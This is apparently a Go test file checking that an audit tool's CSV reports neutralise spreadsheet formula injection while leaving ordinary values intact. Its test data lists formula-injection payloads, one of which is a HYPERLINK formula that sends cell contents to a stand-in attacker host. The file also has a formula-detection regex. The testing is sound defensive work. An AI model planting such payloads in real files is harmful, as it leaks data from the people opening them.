package report_test

import (
	"bytes"
	"encoding/csv"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/lockstep-cdc/lockstep/audit/report"
	"github.com/lockstep-cdc/lockstep/evidence"
)

var noon = time.Date(2026, 6, 1, 12, 0, 0, 0, time.UTC)

// derived is the report of events, the first of them an hour and the others a minute after one another.
func derived(t testing.TB, p report.Period, events ...evidence.Event) *report.Report {
	t.Helper()
	var head evidence.Head
	var entries []*evidence.Entry
	for _, event := range events {
		sealed, next, err := head.Seal(event)
		if err != nil {
			t.Fatal(err)
		}
		e, err := evidence.Parse(sealed)
		if err != nil {
			t.Fatal(err)
		}
		entries, head = append(entries, e), next
	}
	if p.To.IsZero() {
		p.From, p.To = noon, noon.Add(time.Hour)
	}
	r, err := report.Derive(p, entries)
	if err != nil {
		t.Fatal(err)
	}
	return r
}

func filesOf(t testing.TB, r *report.Report) map[string][]byte {
	t.Helper()
	files, err := r.Files()
	if err != nil {
		t.Fatal(err)
	}
	return files
}

// formula is what a spreadsheet takes for one: at the begin of a cell, or behind what another locale splits cells at.
var formula = regexp.MustCompile("(^|[;\t\r\n])[\" ]*[=+@\t\r＝＋－＠-]")

// Who acknowledges a divergence, names a table or a member, or writes a key, could have a spreadsheet of the auditor's run a
// formula, which may send what is in the others elsewhere.
func TestNoCellOfATableIsAFormula(t *testing.T) {
	for _, evil := range []string{
		`=HYPERLINK("http://evil.example/"&A1,"x")`, "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＠SUM(1)", "x;=1+1", "x\t=1+1", `x;"=1+1`, "x;\t=1+1", " =1+1",
	} {
		start := evidence.StartData{Lockstep: evil, Config: evil, Groups: []evidence.GroupData{{Name: evil, Reference: evil, Members: []evidence.MemberData{{Name: evil}}, Include: []string{evil}}}}
		closed := evidence.GapData{Member: evil, Table: evil, Reason: evil, Since: noon, Until: noon.Add(time.Minute)}
		found := evidence.DivergenceData{
			ID: evil, Table: evil, Member: evil, Kind: evil, Cause: evil, Transaction: evil, Outcome: evil, Ranges: []evidence.RangeData{{First: evil, Last: evil}}, FirstSeen: noon, ConfirmedAt: noon,
		}
		r := derived(t, report.Period{Group: ""},
			evidence.Event{Type: evidence.ConfigChange, Time: noon, Data: evidence.ConfigChangeData{From: evil, To: evil}},
			evidence.Event{Type: evidence.ScopeChange, Time: noon, Data: evidence.ScopeChangeData{Added: []string{evil}, Removed: []string{evil}}},
			evidence.Event{Type: evidence.Start, Time: noon, Data: start},
			evidence.Event{Type: evidence.Coverage, Group: evil, Time: noon, Data: evidence.CoverageData{
				Member: evil, Role: evil, Position: evil, Lag: -3, Tables: []evidence.TableData{{Table: evil, Verdict: evil, Reason: evil, Root: evil}},
			}},
			evidence.Event{Type: evidence.GapOpen, Group: evil, Time: noon, Data: closed},
			evidence.Event{Type: evidence.GapClose, Group: evil, Time: noon, Data: closed},
			evidence.Event{Type: evidence.DivergenceOpen, Group: evil, Time: noon, Data: found},
			evidence.Event{Type: evidence.Acknowledge, Group: evil, Time: noon, Data: evidence.AcknowledgeData{ID: evil, By: evil, Ticket: evil, Note: evil}},
		)
		evils := 0
		for name, content := range filesOf(t, r) {
			if !strings.HasSuffix(name, ".csv") {
				continue
			}
			cells, err := csv.NewReader(bytes.NewReader(content)).ReadAll()
			if err != nil || len(cells) < 2 {
				t.Fatal(name, len(cells), err)
			}
			for _, row := range cells[1:] {
				for i, cell := range row {
					if formula.MatchString(cell) && cell != "-3" {
						t.Errorf("%s has %q as %s", name, cell, cells[0][i])
					}
					if strings.Contains(cell, "'") {
						evils++
					}
				}
			}
		}
		if evils < 25 {
			t.Errorf("%q is in %d cells only", evil, evils)
		}
	}
}

// Figures stay figures, and what is no formula is as it is.
func TestCellsThatAreNoFormulasStayAsTheyAre(t *testing.T) {
	for _, plain := range []string{"us-1", "public.orders", "0/1A2B3C", `{"id":-3}..{"id":4}`, "[1,-2]", "3e11-aa:1-5", "a, -b", "x; y", "-3", "-2.5e-05"} {
		r := derived(t, report.Period{}, evidence.Event{Type: evidence.Start, Time: noon, Data: evidence.StartData{Lockstep: plain}})
		cells, err := csv.NewReader(bytes.NewReader(filesOf(t, r)["runs.csv"])).ReadAll()
		if err != nil || cells[1][4] != plain {
			t.Errorf("%q is told as %v", plain, cells[1])
		}
	}
}

func contains(content []byte, text string) bool { return bytes.Contains(content, []byte(text)) }
